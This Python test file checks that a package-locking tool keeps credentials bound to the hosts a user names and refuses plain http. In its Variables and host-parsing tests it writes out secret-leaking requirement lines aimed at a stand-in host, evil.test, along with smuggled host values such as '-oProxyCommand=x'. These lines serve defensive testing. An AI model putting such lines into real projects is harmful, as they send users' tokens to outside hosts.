"""Who gets a password, who may be spoken to without TLS, and what an index that refuses means.

Hosts of other machines are played by indexes on loopback behind a proxy, which knows them by name: plain http as the
proxy's own requests, https through CONNECT, with certificates of an authority made for the test."""

import base64
import contextlib
import http.client
import http.server
import os
import pathlib
import select
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading
import unittest
import urllib.parse

from harness import Case, Index, wheel

LABEL = "e2e"
SECRET = "s3cret-word"
NAMES = ("corp.test", "evil.test", "files.test", "xn--bcher-kva.test")
_made = {}


def authorization(user):
    return "Basic " + base64.b64encode(user.encode()).decode()


def make_authority():
    """A certificate authority and a server's certificate for NAMES, once for all tests; None without openssl."""
    if "folder" not in _made:
        _made["folder"] = None
        if shutil.which("openssl"):
            folder = pathlib.Path(tempfile.mkdtemp(prefix="pinbake-ca-"))
            unittest.addModuleCleanup(shutil.rmtree, folder, ignore_errors=True)
            names = ",".join(f"DNS:{name}" for name in NAMES)
            (folder / "extensions").write_text(f"subjectAltName={names}\n")
            steps = (["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=Corp CA", "-keyout",
                      "ca.key", "-out", "ca.pem", "-addext", "basicConstraints=critical,CA:TRUE"],
                     ["req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=server", "-keyout", "key", "-out", "request"],
                     ["x509", "-req", "-in", "request", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days",
                      "2", "-extfile", "extensions", "-out", "cert"])
            if not any(subprocess.run(["openssl", *step], cwd=folder, capture_output=True).returncode for step in steps):
                _made["folder"] = folder
    return _made["folder"]


class Proxy:
    """A forward proxy on loopback that knows each host by name, and writes down what it was asked for."""

    def __init__(self):
        self.plain, self.secure = {}, {}  # host -> port on loopback
        self.seen = []                    # (method, address, Authorization)
        proxy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *_):
                pass

            def do_GET(self):
                url = urllib.parse.urlsplit(self.path)
                proxy.seen.append((self.command, self.path, self.headers.get("Authorization")))
                port = proxy.plain.get(url.hostname)
                if port is None:
                    self.send_error(502)
                    return
                connection = http.client.HTTPConnection("127.0.0.1", port)
                connection.request(self.command, url.path, headers=dict(self.headers))
                answer = connection.getresponse()
                body = answer.read()
                self.send_response(answer.status)
                for key, value in answer.getheaders():
                    if key.lower() not in ("content-length", "connection", "date", "server"):
                        self.send_header(key, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_HEAD = do_POST = do_PUT = do_GET

            def do_CONNECT(self):
                proxy.seen.append((self.command, self.path, self.headers.get("Authorization")))
                port = proxy.secure.get(self.path.rpartition(":")[0])
                self.close_connection = True
                if port is None:
                    self.send_error(502)
                    return
                with socket.create_connection(("127.0.0.1", port)) as there:
                    self.send_response(200)
                    self.end_headers()
                    splice(self.connection, there)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.server.handle_error = lambda *_: None
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def splice(here, there):
    with contextlib.suppress(OSError):
        while True:
            for ready in select.select([here, there], [], [])[0]:
                data = ready.recv(65536)
                if not data:
                    return
                (there if ready is here else here).sendall(data)


class World(Case):
    """Indexes of other machines behind a proxy."""

    def setUp(self):
        super().setUp()
        self.proxy = Proxy()
        self.addCleanup(self.proxy.close)
        self.settings = {"http_proxy": self.proxy.url, "https_proxy": self.proxy.url, "PINBAKE_RETRIES": "0"}
        self.write("r.in", "demo\n")

    def plain(self, host):
        index = Index()
        self.addCleanup(index.close)
        self.proxy.plain[host] = index.server.server_address[1]
        index.url, index.base = f"http://{host}/simple", f"http://{host}"
        index.add(wheel("demo", "1.0"))
        return index

    def secure(self, host):
        made = make_authority()
        if not made:
            self.skipTest("no openssl to make certificates with")
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(made / "cert", made / "key")
        index = Index()
        self.addCleanup(index.close)
        index.server.socket = context.wrap_socket(index.server.socket, server_side=True, do_handshake_on_connect=False)
        self.proxy.secure[host] = index.server.server_address[1]
        index.url, index.base = f"https://{host}/simple", f"https://{host}"
        index.add(wheel("demo", "1.0"))
        self.settings["PINBAKE_CERT"] = str(made / "ca.pem")
        return index

    def netrc(self, text):
        path = self.dir / "home/.netrc"
        path.write_text(text)
        path.chmod(0o600)

    def lock_with(self, *args, code=0, says=(), command=("lock", "r.in"), **settings):
        env = self.environment(**{**self.settings, **settings})
        target = self.TARGET if command[0] == "lock" else ()
        result = self.run_program(*command, *target, *args, env=env)
        self.assertEqual(result.code, code, str(result))
        for text in (says,) if isinstance(says, str) else says:
            self.assertIn(text, result.err + result.out, str(result))
        self.assertNotIn(SECRET, result.err + result.out)
        if (self.work / "pylock.toml").exists():
            self.assertNotIn(SECRET, self.read("pylock.toml"))
        return result

    def assert_got(self, index, user=f"ci:{SECRET}"):
        self.assertTrue(index.authorizations)
        self.assertEqual({each for _, each in index.authorizations}, {authorization(user)})

    def assert_nothing_sent(self, *indexes):
        for index in indexes:
            self.assertEqual(index.authorizations, [])
        self.assertEqual({each for _, _, each in self.proxy.seen}, {None} if self.proxy.seen else set())


LOGIN = {"PINBAKE_INDEX_USERNAME": "ci", "PINBAKE_INDEX_PASSWORD": SECRET}
NAMED = {"PINBAKE_INDEX_CORP_USERNAME": "ci", "PINBAKE_INDEX_CORP_PASSWORD": SECRET}


class Bound(World):
    """A password goes to the host that the user has it for, whoever names another one."""

    def setUp(self):
        super().setUp()
        self.evil, self.corp = self.secure("evil.test"), self.secure("corp.test")

    def test_project_file(self):
        self.write("pinbake.toml", f'requirements = ["r.in"]\nindex-url = "{self.evil.url}"\n')
        self.lock_with(command=("lock",), **LOGIN, says=["the password of PINBAKE_INDEX_PASSWORD is not for",
                                                         "evil.test", "PINBAKE_INDEX_URL"])
        self.assert_nothing_sent(self.evil)

    def test_pyproject(self):
        self.write("pyproject.toml", '[project]\nname = "x"\nversion = "1"\ndependencies = ["demo"]\n'
                                     f'[tool.pinbake]\nindex-url = "{self.evil.url}"\n')
        self.lock_with(command=("lock",), **LOGIN, says="is not for")
        self.assert_nothing_sent(self.evil)

    def test_requirements_file(self):
        self.write("r.in", f"--index-url {self.evil.url}\ndemo\n")
        self.lock_with(**LOGIN, says=["r.in:1:1: warning: the password of PINBAKE_INDEX_PASSWORD is not for"])
        self.assert_nothing_sent(self.evil)

    def test_said_once(self):
        self.write("r.in", f"--index-url {self.evil.url}\ndemo\n")
        result = self.lock_with("--python", "3.11", **LOGIN)
        self.assertEqual(result.err.count("is not for"), 1)

    def test_lock(self):
        self.lock_with("--index-url", self.evil.url)
        shutil.rmtree(self.cache)
        self.lock_with(command=("bake",), **LOGIN, says="which the lock names")
        self.assert_nothing_sent(self.evil)

    def test_named_by_a_project_file(self):
        self.write("pinbake.toml", 'requirements = ["r.in"]\nindex-for = { demo = "corp" }\n'
                                   f'index = {{ corp = "{self.evil.url}" }}\n')
        self.lock_with(command=("lock",), **NAMED, says=["the password of PINBAKE_INDEX_CORP_PASSWORD is not for",
                                                         "PINBAKE_INDEX_CORP_URL"])
        self.lock_with("--refresh", command=("lock",), **NAMED, PINBAKE_INDEX_CORP_URL=self.corp.url, says="is not for")
        uv = {key.replace("PINBAKE", "UV"): value for key, value in NAMED.items()}
        self.lock_with("--refresh", command=("lock",), **uv, says="is not for")
        self.assert_nothing_sent(self.evil)

    def test_named_in_extra_indexes_of_a_project_file(self):
        self.write("pinbake.toml", f'requirements = ["r.in"]\nextra-index-url = ["corp={self.evil.url}"]\n')
        self.lock_with(command=("lock",), **NAMED, says="is not for")
        self.assert_nothing_sent(self.evil)

    def test_mapped_to_an_address_by_a_project_file(self):
        """Beside an index that the command line names."""
        self.netrc(f"default login ci password {SECRET}\n")
        self.write("pinbake.toml", f'requirements = ["r.in"]\nindex-for = {{ demo = "{self.evil.url}", x = "corp" }}\n')
        self.lock_with("--index", f"corp={self.corp.url}", command=("lock",), **NAMED)
        self.assertTrue(self.evil.paths())
        self.assert_nothing_sent(self.evil)

    def test_the_user_names_the_host(self):
        """The same files, and a user who says that the host is the one."""
        self.corp.users["/"] = f"ci:{SECRET}"
        self.write("pinbake.toml", f'requirements = ["r.in"]\nindex-url = "{self.corp.url}"\n')
        for settings in ({"PINBAKE_INDEX_URL": self.corp.url}, {"PIP_EXTRA_INDEX_URL": self.corp.base + "/else/simple"}):
            self.lock_with("--refresh", command=("lock",), **LOGIN, **settings)
            self.assert_got(self.corp)
        self.write("pinbake.toml", 'requirements = ["r.in"]\nindex-for = { demo = "corp" }\n'
                                   f'index = {{ corp = "{self.corp.url}" }}\n')
        self.lock_with("--refresh", command=("lock",), **NAMED, PINBAKE_INDEX_CORP_URL=self.corp.base)
        self.lock_with("--refresh", "--index", f"corp={self.corp.url}", "--index-for", "demo=corp", command=("lock",), **NAMED)
        self.lock_with("--refresh", "-i", self.corp.url, **LOGIN)

    def test_another_port_or_protocol_is_another_host(self):
        plain = self.plain("corp.test")
        self.lock_with("--refresh", "-i", plain.url, "--trusted-host", "corp.test", **LOGIN, says="are not sent")
        self.write("pinbake.toml", 'requirements = ["r.in"]\nindex-url = "https://corp.test:8443/simple"\n')
        self.proxy.secure["corp.test"] = self.evil.server.server_address[1]
        self.lock_with("--refresh", command=("lock",), **LOGIN, PIP_EXTRA_INDEX_URL="https://corp.test/none/simple")
        self.assert_nothing_sent(self.evil, plain)

    def test_files_elsewhere(self):
        """A page's files on another host get nothing."""
        page = f'<a href="{self.evil.base}/files/{wheel("demo", "1.0").filename}">{wheel("demo", "1.0").filename}</a>'
        self.corp.raw["/simple/demo/"] = ("text/html", page.encode(), {})
        self.lock_with("-i", self.corp.url, **LOGIN)
        self.assertTrue(self.evil.paths())
        self.assert_got(self.corp)
        self.assert_nothing_sent(self.evil)

    def test_addresses_with_a_user_before_the_host(self):
        """https://corp.test@evil.test/ is at evil.test."""
        self.write("pinbake.toml", 'requirements = ["r.in"]\nindex-url = "https://corp.test@evil.test/simple"\n')
        self.lock_with(command=("lock",), **LOGIN, PIP_EXTRA_INDEX_URL=self.corp.base + "/none/simple")
        self.assertNotIn(authorization(f"ci:{SECRET}"), dict(self.evil.authorizations).values())

    def test_hosts_that_are_read_in_several_ways(self):
        for host in ("corp.test%2eevil.test", "b\u00fccher.test", "corp.test:0", "[::1%25lo]",
                     "-oProxyCommand=x"):
            with self.subTest(host):
                self.lock_with("--index-url", f"https://{host}/simple", code=3, says="does not name a host")

    def test_names_of_unicode_domains(self):
        index = self.secure("xn--bcher-kva.test")
        self.lock_with("--index-url", index.url)

    def test_redirects(self):
        self.corp.users["/"] = f"ci:{SECRET}"
        self.corp.fail("/simple/demo/", (302, {"Location": f"{self.evil.url}/demo/"}))
        self.lock_with("-i", self.corp.url, **LOGIN)
        self.assert_nothing_sent(self.evil)
        # a password that the address of a redirect brings along is dropped
        self.corp.fail("/simple/demo/", (302, {"Location": f"https://x:{SECRET}@evil.test/simple/demo/"}))
        self.lock_with("--refresh", "-i", self.corp.url, **LOGIN)
        self.assert_nothing_sent(self.evil)
        # and one back to the own host gets it again
        self.corp.authorizations.clear()
        self.evil.fail("/simple/demo/", (307, {"Location": f"{self.corp.url}/demo/"}))
        self.lock_with("--refresh", "-i", self.evil.url, "--extra-index-url", f"https://ci:{SECRET}@corp.test/none/")
        self.assert_got(self.corp)

    def test_redirects_to_plain_http(self):
        plain = self.plain("files.test")
        self.corp.fail("/simple/demo/", *[(302, {"Location": f"{plain.url}/demo/"})] * 3)
        for args in ([], ["--trusted-host", "files.test"]):
            self.lock_with("-i", self.corp.url, *args, code=4, says="from https to another protocol")
        other = self.plain("corp.test")
        other.fail("/simple/demo/", *[(302, {"Location": f"{plain.url}/demo/"})] * 3)
        self.lock_with("-i", other.url, "--trusted-host", "corp.test", code=3,
                       says=["http://files.test", "--trusted-host files.test"])
        self.assertEqual(plain.paths(), [])


class Keyring(World):
    """`keyring` is asked for hosts that the user names, and for no other."""

    def setUp(self):
        super().setUp()
        self.corp, self.evil = self.secure("corp.test"), self.secure("evil.test")
        self.asked = self.dir / "asked"
        (self.dir / "bin").mkdir()
        program = self.dir / "bin/keyring"
        program.write_text(f'#!/bin/sh\necho "$@" >> {self.asked}\necho {SECRET}\n')
        program.chmod(0o755)
        self.settings.update(PATH=f"{self.dir}/bin:{os.environ['PATH']}", PINBAKE_KEYRING_PROVIDER="subprocess")

    def test_of_a_file(self):
        address = "https://bob@evil.test/simple"
        self.write("r.in", f"--index-url {address}\ndemo\n")
        self.lock_with()
        self.write("r.in", f"demo @ https://bob@evil.test/files/{wheel('demo', '1.0').filename}\n")
        self.lock_with("--refresh", "-i", self.corp.url)
        self.write("r.in", "demo\n")
        self.write("pinbake.toml", f'requirements = ["r.in"]\nindex-url = "{address}"\n')
        self.lock_with("--refresh", command=("lock",))
        self.assertFalse(self.asked.exists())
        self.assertNotIn(authorization(f"bob:{SECRET}"), dict(self.evil.authorizations).values())

    def test_of_the_user(self):
        self.corp.users["/"] = f"bob:{SECRET}"
        self.lock_with("-i", "https://bob@corp.test/simple")
        self.write("pinbake.toml", 'requirements = ["r.in"]\nindex-url = "https://bob@corp.test/simple"\n')
        self.lock_with("--refresh", command=("lock",), PIP_EXTRA_INDEX_URL="https://corp.test/none/")
        self.assertEqual(self.asked.read_text().splitlines(), ["get https://corp.test/simple bob"] * 2)

    def test_not_for_plain_http(self):
        plain = self.plain("corp.test")
        self.lock_with("-i", "http://bob@corp.test/simple", "--trusted-host", "corp.test", says="are not sent")
        self.assertFalse(self.asked.exists())
        self.assert_nothing_sent(plain)


class Netrc(World):
    def test_exactly_that_host(self):
        corp, evil = self.secure("corp.test"), self.secure("evil.test")
        corp.users["/"] = f"ci:{SECRET}"
        self.netrc(f"machine corp.test login ci password {SECRET}\n")
        self.lock_with("-i", corp.url)
        self.assert_got(corp)
        self.lock_with("-i", evil.url, "--refresh")
        self.lock_with("-i", "https://corp.test.evil.test/simple", "--refresh", code=4)
        self.assert_nothing_sent(evil)

    def test_even_if_a_file_names_the_host(self):
        """The user binds it there."""
        corp = self.secure("corp.test")
        corp.users["/"] = f"ci:{SECRET}"
        self.netrc(f"machine corp.test login ci password {SECRET}\n")
        self.write("r.in", f"--index-url {corp.url}\ndemo\n")
        self.lock_with()
        self.lock_with(command=("bake",))

    def test_never_by_http(self):
        corp = self.plain("corp.test")
        self.netrc(f"machine corp.test login ci password {SECRET}\n")
        self.lock_with("-i", corp.url, code=3, says="plain http")
        result = self.lock_with("-i", corp.url, "--trusted-host", "corp.test", says="are not sent")
        self.assertEqual(result.err.count("are not sent"), 1)
        self.lock_with("--trusted-host", "corp.test", command=("bake",))
        self.assert_nothing_sent(corp)

    def test_default_is_for_hosts_that_the_user_names(self):
        corp, evil = self.secure("corp.test"), self.secure("evil.test")
        self.netrc(f"default login ci password {SECRET}\n")
        self.write("r.in", f"--index-url {evil.url}\ndemo\n")
        self.lock_with()
        self.assert_nothing_sent(evil)
        self.write("r.in", "demo\n")
        self.lock_with("-i", corp.url)
        self.assert_got(corp)

    def test_this_machine_is_not_spoken_to_through_a_proxy(self):
        self.index.add(wheel("demo", "1.0"))
        self.index.users["/"] = f"ci:{SECRET}"
        self.netrc(f"machine 127.0.0.1 login ci password {SECRET}\n")
        self.lock_with("-i", self.index.url)
        self.assertEqual(self.proxy.seen, [])


class PlainHttp(World):
    """Another machine is spoken to by http only if the user trusts it."""

    def setUp(self):
        super().setUp()
        self.corp = self.plain("corp.test")

    def refused(self, *args, **options):
        result = self.lock_with(*args, code=3, **options)
        for text in ("plain http", "https", "--trusted-host corp.test"):
            self.assertIn(text, result.err + result.out, str(result))
        self.assertEqual(self.corp.paths(), [])
        return result

    def test_index(self):
        for args in (["-i", self.corp.url], ["--extra-index-url", self.corp.url, "-i", self.index.url],
                     ["--index", f"c={self.corp.url}", "--index-for", "demo=c"], ["--no-index", "-f", self.corp.url],
                     ["-i", "HTTP://CORP.test/simple"], ["-i", f"http://127.0.0.1@corp.test/simple"], ["--json", "-i", self.corp.url]):
            with self.subTest(args):
                self.refused_any(args)
        for name in ("PINBAKE_INDEX_URL", "PIP_INDEX_URL", "UV_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS"):
            with self.subTest(name):
                self.refused(**{name: self.corp.url})

    def refused_any(self, args):
        result = self.lock_with(*args, code=3, says=["plain http", "https", "--trusted-host"])
        self.assertIn("corp.test", (result.err + result.out).lower())
        self.assertEqual(self.corp.paths(), [])

    def test_files_name_their_place(self):
        for option in ("--index-url", "--extra-index-url", "-f"):
            self.write("r.in", f"demo\n{option} {self.corp.url}\n")
            self.assertIn("r.in:2:1: error:", self.refused("-i", self.index.url).err
                          if option != "--index-url" else self.refused().err)
        self.write("r.in", f"demo @ {self.corp.base}/files/{wheel('demo', '1.0').filename}\n")
        self.assertIn("r.in:1:1: error:", self.refused().err)
        self.write("r.in", f"-r {self.corp.base}/more.in\n")
        self.assertIn("r.in:1:", self.refused().err)
        self.refused(command=("lock", f"{self.corp.base}/more.in"))
        self.write("pinbake.toml", f'requirements = ["r.in"]\nindex-url = "{self.corp.url}"\n')
        self.write("r.in", "demo\n")
        self.assertIn("the project's file", self.refused(command=("lock",)).err)

    def test_files_of_a_page(self):
        name = wheel("demo", "1.0").filename
        self.index.raw["/simple/demo/"] = ("text/html", f'<a href="{self.corp.base}/files/{name}">{name}</a>'.encode(), {})
        self.refused("-i", self.index.url)

    def test_files_of_a_lock(self):
        self.lock_with("-i", self.corp.url, "--trusted-host", "corp.test")
        shutil.rmtree(self.cache)
        self.corp.requests.clear()
        self.refused(command=("bake",))

    def test_trusted(self):
        for number, (args, settings) in enumerate([
                (["--trusted-host", "corp.test"], {}), (["--trusted-host", "CORP.test:80"], {}),
                (["--trusted-host", "other.test", "--trusted-host", "http://corp.test"], {}),
                ([], {"PINBAKE_TRUSTED_HOST": "other.test corp.test"}), ([], {"PIP_TRUSTED_HOST": "corp.test"}),
                ([], {"UV_INSECURE_HOST": "corp.test"})]):
            with self.subTest(args or settings):
                self.lock_with("-i", self.corp.url, "-o", f"{number}.toml", "--refresh", *args, **settings)
        for host in ("corp.test:81", "test", "corp", "xcorp.test", ".test", "*"):
            with self.subTest(host):
                self.lock_with("-i", self.corp.url, "--refresh", "--trusted-host", host, code=3)
        self.lock_with("--trusted-host", "corp.test", command=("bake", "0.toml"))

    def test_trusted_by_a_file_is_not_heeded(self):
        self.write("r.in", f"--index-url {self.corp.url}\n--trusted-host corp.test\ndemo\n")
        self.refused()
        self.write("r.in", "--trusted-host corp.test\ndemo\n")
        self.index.add(wheel("demo", "1.0"))
        result = self.lock_with("-i", self.index.url, says=["r.in:1:1: warning: --trusted-host corp.test is not heeded"])
        self.assertEqual(result.err.count("is not heeded"), 1)
        self.write("pinbake.toml", 'requirements = ["r.in"]\ntrusted-host = ["corp.test"]\n')
        self.lock_with("-i", self.corp.url, command=("lock",), code=3)
        self.assertEqual(self.corp.paths(), [])

    def test_this_machine_by_its_names(self):
        self.index.add(wheel("demo", "1.0"))
        port = self.index.server.server_address[1]
        for host in ("127.0.0.1", "localhost", "LOCALHOST"):
            with self.subTest(host):
                self.lock_with("-i", f"http://{host}:{port}/simple", "--refresh")
        for host in ("127.1", "2130706433", "0x7f000001", "0177.0.0.1", "localhost.corp.test", "127.0.0.1.corp.test"):
            with self.subTest(host):
                self.lock_with("-i", f"http://{host}:{port}/simple", "--refresh", code=3)

    def test_push(self):
        self.index.add(wheel("demo", "1.0"))
        self.lock_with("-i", self.index.url)
        self.lock_with(command=("bake",))
        auths = {"auths": {"corp.test": {"auth": base64.b64encode(f"ci:{SECRET}".encode()).decode()}}}
        (self.dir / "home/.docker").mkdir()
        (self.dir / "home/.docker/config.json").write_text(__import__("json").dumps(auths))
        self.corp.users["/"] = "other:user"
        self.lock_with(command=("push", "corp.test/app", "--plain-http"), code=4,
                       says="none is sent over plain http to another machine")
        self.assertIn("/v2/app/manifests/", self.corp.paths()[0])
        self.assert_nothing_sent(self.corp)


class Refusals(World):
    """What an index that is asked first does not answer is not taken from the next."""

    def setUp(self):
        super().setUp()
        self.private = Index()
        self.addCleanup(self.private.close)
        self.index.add(wheel("demo", "99.0"))
        self.private.add(wheel("demo", "1.0"))

    def lock_both(self, *args, **options):
        return self.lock_with("-i", self.index.url, "--extra-index-url", self.private.url, "--refresh", *args, **options)

    def test_statuses_end_the_search(self):
        for status in (400, 401, 402, 403, 405, 407, 418, 429, 451, 500, 502, 503, 504, "cut",
                       (302, {"Location": "/login"}), (302, {"Location": "/simple/demo/"}), (304, {})):
            with self.subTest(status):
                self.private.faults.clear()
                self.private.fail("/simple/demo/", *[status] * 30)
                self.lock_both(code=4)
                self.assertEqual(self.index.paths(), [], status)
                self.assertFalse((self.work / "pylock.toml").exists())

    def test_pages_to_log_in_at(self):
        form = b"<html><body><h1>Sign in</h1><form action=/in method=post><input type=password></form></body></html>"
        self.private.raw["/login"] = self.private.raw["/simple/demo/"] = ("text/html", form, {})
        result = self.lock_both(code=4, says="log in")
        self.private.raw.pop("/simple/demo/")
        self.private.fail("/simple/demo/", (302, {"Location": "/login?next=x"}))
        result = self.lock_both(code=4, says="log in")
        self.assertNotIn("99.0", result.err)
        self.assertEqual(self.index.paths(), [])

    def test_403_of_who_says_so_for_absent(self):
        host = self.private.base.partition("//")[2]
        for args, settings in ((["--ignore-forbidden", "127.0.0.1"], {}), (["--ignore-forbidden", host], {}),
                               ([], {"PINBAKE_IGNORE_FORBIDDEN": f"other.test {host}"})):
            with self.subTest(args or settings):
                self.private.fail("/simple/demo/", 403)
                self.lock_both(*args, **settings)
                self.assertEqual(self.pins(), {"demo": "99.0"})
        self.private.fail("/simple/demo/", 403, 401)
        self.lock_both("--ignore-forbidden", "127.0.0.1:1", code=4, says=f"--ignore-forbidden {host}")
        self.lock_both("--ignore-forbidden", host, code=4)

    def test_pages_of_links(self):
        for status in (401, 403, 404, 410, 500, 503):
            with self.subTest(status):
                self.private.faults.clear()
                self.private.fail("/links", *[status] * 20)
                self.lock_with("-i", self.index.url, "-f", f"{self.private.base}/links", "--refresh", code=4)
        form = b"<html><form action=/in><input type=password></form></html>"
        self.private.faults.clear()
        self.private.raw["/links"] = ("text/html", form, {})
        self.lock_with("-i", self.index.url, "-f", f"{self.private.base}/links", "--refresh", code=4, says="log in")
        for kind, body in (("application/json", b'{"error": "forbidden"}'), ("text/html", b'{"error": "forbidden"}')):
            with self.subTest(kind):
                self.private.raw["/links"] = (kind, body, {})
                self.lock_with("-i", self.index.url, "-f", f"{self.private.base}/links", "--refresh", code=4, says="not with HTML")


class Variables(World):
    """${NAME} in a file that a checkout brings along is not sent to hosts that only such a file names."""

    def setUp(self):
        super().setUp()
        self.corp, self.evil = self.secure("corp.test"), self.secure("evil.test")
        self.settings["TOKEN"] = SECRET

    def test_refused(self):
        name = wheel("demo", "1.0").filename
        for line in ("--index-url https://evil.test/${TOKEN}/simple", "-i https://x:${TOKEN}@evil.test/simple",
                     "--extra-index-url=https://${TOKEN}.evil.test/simple", "-f https://evil.test/?${TOKEN}",
                     f"demo @ https://evil.test/${{TOKEN}}/{name}", "demo @ git+https://${TOKEN}@evil.test/r.git",
                     "-e git+ssh://git@evil.test/${TOKEN}.git#egg=demo", "-r https://evil.test/${TOKEN}.txt",
                     "-c https://evil.test/${TOKEN}.txt", "https://evil.test/${TOKEN}/demo-1.0-py3-none-any.whl",
                     "demo @ https://corp.test/x.whl --config-settings=a=https://evil.test/${TOKEN}",
                     "-i https://corp.test@evil.test/${TOKEN}", "-i https://corp.test\\@evil.test/${TOKEN}"):
            with self.subTest(line):
                self.write("r.in", f"demo\n{line}\n")
                result = self.lock_with("--extra-index-url", self.corp.url, code=3, says="a host that only this file names")
                self.assertIn("r.in:2:", result.err)
        for line in ("x${TOKEN}", "${TOKEN}==1.0", "a-${TOKEN} @ https://corp.test/x.whl", "${TOKEN}[x]"):
            with self.subTest(line):
                self.write("r.in", f"{line}\n")
                self.lock_with("-i", self.corp.url, code=3, says="in the name of a package")
        self.write("pinbake.toml", 'requirements = ["r.in"]\nextra-index-url = ["https://evil.test/simple"]\n')
        self.write("r.in", "-i https://evil.test/${TOKEN}\ndemo\n")
        self.lock_with("--json", command=("lock",), code=3)
        self.assert_nothing_sent(self.corp, self.evil)
        self.assertEqual(self.evil.paths(), [])

    def test_to_hosts_that_the_user_names(self):
        self.corp.users["/"] = f"ci:{SECRET}"
        self.write("r.in", "--index-url https://ci:${TOKEN}@corp.test/simple\ndemo\n")
        self.lock_with(code=3)
        for args, settings in ((["--password-host", "corp.test"], {}), ([], {"PINBAKE_PASSWORD_HOST": "evil.test corp.test:443"}),
                               ([], {"PIP_EXTRA_INDEX_URL": "https://corp.test/none/"})):
            self.lock_with("--refresh", *args, **settings)
        self.assert_got(self.corp)

    def test_what_stays_here(self):
        self.index.add(wheel("demo", "1.0"))
        self.settings.update(TOKEN="1.0", FOLDER=str(self.work), PLACE=self.index.url.partition("://")[2])
        self.write("more.in", "demo==${TOKEN}\n")
        self.write("r.in", "-r ${FOLDER}/more.in\n--index-url http://${PLACE}\n-f file://${FOLDER}\n")
        self.lock_with("--password-host", self.index.url.split("/")[2])

    def test_to_other_servers_of_this_machine(self):
        self.index.add(wheel("demo", "1.0"))
        self.settings.update(TOKEN=SECRET)
        place = self.index.url.partition("://")[2]
        for line in (f"-i http://ci:${{TOKEN}}@{place}", f"-i http://{place}/${{TOKEN}}", f"-f http://localhost:1/${{TOKEN}}",
                     f"demo @ {self.index.base}/files/${{TOKEN}}/demo-1.0-py3-none-any.whl"):
            with self.subTest(line):
                self.write("r.in", f"{line}\ndemo\n")
                self.lock_with(code=3, says="--password-host")
        self.assertEqual(self.index.paths(), [])
        self.assert_nothing_sent(self.index)
        self.write("r.in", f"-i http://ci:${{TOKEN}}@{place}\ndemo\n")
        self.lock_with(PINBAKE_INDEX_URL=self.index.url)

    def test_of_a_password(self):
        self.write("r.in", "-i https://evil.test/simple\ndemo\n")
        self.lock_with(**LOGIN, says="is not for")
        self.assert_nothing_sent(self.evil)
        self.lock_with("--refresh", "--password-host", "evil.test", **LOGIN)
        self.assert_got(self.evil)


class Git(World):
    """git speaks to whom we would speak to, with the passwords that we would send."""

    def setUp(self):
        super().setUp()
        source = self.dir / "source"
        source.mkdir()
        (source / "pyproject.toml").write_text('[build-system]\nrequires = ["setuptools"]\n'
                                               'build-backend = "setuptools.build_meta"\n'
                                               '[project]\nname = "demo"\nversion = "7"\n')
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.dir), "GIT_CONFIG_NOSYSTEM": "1"}
        for command in ("init -q -b main", "add .", "-c user.name=a -c user.email=a@b commit -q -m 1",
                        "clone -q --bare . ../r.git", "--git-dir=../r.git update-server-info"):
            subprocess.run(["git", *command.split()], cwd=source, env=environment, check=True)
        self.repository = {f"/r.git/{path.relative_to(self.dir / 'r.git')}": path.read_bytes()
                           for path in (self.dir / "r.git").rglob("*") if path.is_file()}
        self.index.add(wheel("setuptools", "80.0"))

    def serve(self, index):
        index.raw.update({path: ("application/octet-stream", content, {}) for path, content in self.repository.items()})
        return index

    def ask(self, index, **options):
        scheme, _, rest = index.base.partition("://")
        self.write("r.in", f"demo @ git+{scheme}://{rest}/r.git\n")
        args = options.pop("args", ())
        return self.lock_with("-i", self.index.url, *args, **options)

    def test_plain_http(self):
        corp = self.serve(self.plain("corp.test"))
        self.netrc(f"machine corp.test login ci password {SECRET}\n")
        result = self.ask(corp, code=3, says=["plain http", "--trusted-host corp.test"])
        self.assertIn("r.in:1:1: error:", result.err)
        self.assertEqual(corp.paths(), [])
        self.ask(corp, args=["--trusted-host", "corp.test"], says="are not sent")
        self.assert_nothing_sent(corp)
        shutil.rmtree(self.cache)
        corp.forget()
        self.lock_with(command=("bake",), code=3, says="--trusted-host corp.test")
        self.assertEqual(corp.paths(), [])

    def test_passwords(self):
        corp, evil = self.serve(self.secure("corp.test")), self.serve(self.secure("evil.test"))
        corp.users["/"] = f"ci:{SECRET}"
        self.netrc(f"machine corp.test login ci password {SECRET}\ndefault login other password {SECRET}\n")
        self.ask(corp)
        self.assert_got(corp)
        self.ask(evil)
        self.assert_nothing_sent(evil)
        self.assertIn("git", self.read("pylock.toml"))

    def test_this_machine(self):
        self.serve(self.index).users["/r.git/"] = f"ci:{SECRET}"
        self.netrc(f"machine 127.0.0.1 login ci password {SECRET}\n")
        self.ask(self.index)
        self.assertEqual(self.proxy.seen, [])


class Places(World):
    """A name that two places have, with other releases: said, once for each package, with both places."""

    def setUp(self):
        super().setUp()
        self.extra = Index()
        self.addCleanup(self.extra.close)
        self.links = self.work / "links"
        self.links.mkdir()

    def link(self, *args):
        each = wheel(*args)
        (self.links / each.filename).write_bytes(each.content)

    def said(self, *args, **options):
        result = self.lock_with("-i", self.index.url, "--refresh", *args, **options)
        return [line for line in result.err.splitlines() if "is taken from" in line]

    def test_an_extra_index_hides_a_newer_release(self):
        self.extra.add(wheel("demo", "1.0"))
        self.index.add(wheel("demo", "2.0"))
        lines = self.said("--extra-index-url", self.extra.url, "--python", "3.11")
        self.assertEqual(lines, [f"warning: demo 1.0 is taken from '{self.extra.url[:-1]}'; "
                                 f"'{self.index.url[:-1]}' has 2.0"])

    def test_an_extra_index_has_a_newer_release(self):
        self.extra.add(wheel("demo", "99.0"))
        self.index.add(wheel("demo", "2.0"))
        lines = self.said("--extra-index-url", self.extra.url)
        self.assertEqual(len(lines), 1)
        self.assertIn("has 2.0 at most", lines[0])
